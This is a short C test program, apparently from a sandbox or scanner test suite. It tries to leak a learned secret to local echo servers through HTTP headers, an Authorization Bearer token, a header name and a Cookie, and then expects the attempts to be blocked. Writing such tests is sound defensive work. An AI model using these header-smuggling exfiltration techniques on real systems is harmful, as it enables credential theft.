/*
 * secret_header: send the secret out in a request header.
 *
 * As secret_url, with the value in "X-Leak: ...", in a tool-made
 * "Authorization: Bearer ..." and in a header name to the unbound B, and in
 * a Cookie to A.
 * Proves: the scanner covers the tool's headers.
 */
#include <stdio.h>

#include "attack.h"

int main(void)
{
	const char *how, *v = learn_secret(&how);
	const char *a = input_need("port_a"), *b = input_need("port_b");
	char url[256], hdr[8192];

	note("secret %s", how);
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo", b);
	snprintf(hdr, sizeof(hdr), "X-Leak: %s", v);
	attempt_request("GET", url, hdr, NULL, 0, "B/echo with X-Leak: SECRET");
	snprintf(hdr, sizeof(hdr), "Authorization: Bearer %s", v);
	attempt_request("GET", url, hdr, NULL, 0, "B/echo with Authorization: Bearer SECRET");
	snprintf(hdr, sizeof(hdr), "X-%s: 1", v);
	attempt_request("GET", url, hdr, NULL, 0, "B/echo with a header named X-SECRET");
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo", a);
	snprintf(hdr, sizeof(hdr), "Accept: */*\nCookie: s=%s", v);
	attempt_request("GET", url, hdr, NULL, 0, "A/echo with Cookie: s=SECRET");
	blocked("the secret in a header was refused");
}
